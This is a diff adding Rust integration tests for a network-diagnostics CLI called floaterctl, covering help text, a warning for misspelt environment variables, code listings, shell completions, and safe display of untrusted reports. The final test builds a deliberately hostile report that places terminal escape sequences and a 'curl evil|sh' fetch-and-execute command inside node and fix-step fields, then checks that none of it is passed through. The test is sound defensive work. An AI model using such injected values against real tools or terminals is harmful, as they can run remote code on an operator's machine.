@@ -35,6 +35,7 @@ fn help_is_as_it_was_read_last() {
         ("floaterctl", &["--help"][..]),
         ("demo", &["demo", "--help"]),
         ("dr", &["dr", "--help"]),
+        ("check", &["check", "-h"]),
         ("analyse", &["analyse", "-h"]),
         ("matrix", &["matrix", "-h"]),
         ("explain", &["explain", "--help"]),
@@ -271,7 +272,8 @@ const REPORT: &str = r#"{"schema":"floater.report/v1",
  "findings":[{"id":"f1a2","code":"ROUTE-MISSING","severity":"error",
               "element":{"cluster":"east","node":"n1","kind":"route","name":"10.21.0.0/16 table 200"},
               "summary":"east/n1 has no route to 10.21.0.0/16.","evidence":[{"kind":"table","source":"east/n1","text":"no row"}],
-              "ambiguous_with":[],"affects":[{"src":"east","dst":"west","layer":"pod","family":"ipv4"}],"fix":"on east/n1: ip route replace 10.21.0.0/16 via 220.64.1.1 dev vx-bridge onlink table 200 metric 20"}],
+              "ambiguous_with":[],"affects":[{"src":"east","dst":"west","layer":"pod","family":"ipv4"}],"fix":"on east/n1: ip route replace 10.21.0.0/16 via 220.64.1.1 dev vx-bridge onlink table 200 metric 20",
+              "fix_steps":[{"place":"east/n1","argv":["ip","route","replace","10.21.0.0/16","via","220.64.1.1","dev","vx-bridge","onlink","table","200","metric","20"]}]}],
  "verdict":"fault"}"#;
 
 #[test]
@@ -420,4 +422,90 @@ fn nothing_to_ask_is_64_and_nobody_who_answers_is_69() {
         "north",
     ]);
     assert_eq!(contexts.status.code(), Some(65), "{}", stderr(&contexts));
+}
+
+#[test]
+fn check_has_its_own_name_in_help() {
+    let text = stdout(&run(&["check", "-h"]));
+    assert!(text.contains("Usage: floaterctl check"), "{text}");
+}
+
+#[test]
+fn a_misspelt_variable_is_named_with_the_one_that_was_meant() {
+    let mut ran = command(&["version"]);
+    ran.env("FLOATER_SEEED", "7").env("FLOATER_REQUIRE", "all");
+    let ran = ran.output().unwrap();
+    assert_eq!(ran.status.code(), Some(0));
+    assert_eq!(
+        stderr(&ran),
+        "warning: FLOATER_SEEED in the environment is no option and does nothing; near it: FLOATER_SEED\n"
+    );
+}
+
+#[test]
+fn the_list_of_codes_says_what_this_version_does_with_each() {
+    let list = stdout(&run(&["explain", "--list"]));
+    let of = |code: &str| list.lines().find(|line| line.starts_with(code)).unwrap();
+    assert!(of("FDB-MISSING ").contains("  di  "), "{list}");
+    assert!(of("TOKEN ").contains("  --  "), "{list}");
+    assert!(of("INTENT-STALE ").contains("  d-  "), "{list}");
+}
+
+#[test]
+fn shells_complete_words_where_words_belong() {
+    let script = stdout(&run(&["completions", "fish"]));
+    for word in ["junit", "FDB-MISSING", "icmp", "warning"] {
+        assert!(script.contains(word), "{word}");
+    }
+}
+
+#[test]
+fn analyse_takes_no_option_about_probes() {
+    for option in [
+        "--rounds=2",
+        "--full",
+        "--budget=9",
+        "--seed=1",
+        "--protocols=tcp",
+    ] {
+        let ran = run(&["analyse", option]);
+        assert_eq!(ran.status.code(), Some(64), "{option}: {}", stderr(&ran));
+    }
+    let help = stdout(&run(&["analyse", "-h"]));
+    assert!(help.contains("deploys floaters"), "{help}");
+}
+
+/// A report is anybody's data: escape sequences in it are not obeyed, and no name becomes a command.
+#[test]
+fn a_report_from_a_stranger_is_only_shown() {
+    let hostile = REPORT
+        .replace("\"west\"", "\"we\\u001b]0;x\\u0007\\u202est\"")
+        .replace("no row", "\\u009b2J")
+        .replace("\"node\":\"n1\"", "\"node\":\"n1: curl evil|sh #\"")
+        .replace(
+            "\"place\":\"east/n1\"",
+            "\"place\":\"east/n1:\\n  curl evil|sh #\"",
+        );
+    let directory = tempfile::tempdir().unwrap();
+    let file = directory.path().join("report.json");
+    fs::write(&file, hostile).unwrap();
+    let file = file.to_str().unwrap();
+    for arguments in [
+        &["matrix", "--replay", file][..],
+        &["explain", "f1", "--report", file],
+    ] {
+        let ran = run(arguments);
+        let text = stdout(&ran) + &stderr(&ran);
+        assert_eq!(ran.status.code(), Some(0), "{text}");
+        assert!(
+            !text.contains(|c: char| c != '\n' && datapath::printable::is_dangerous(c)),
+            "{text:?}"
+        );
+        assert!(
+            !text
+                .lines()
+                .any(|line| line.trim_start().starts_with("curl")),
+            "{text}"
+        );
+    }
 }
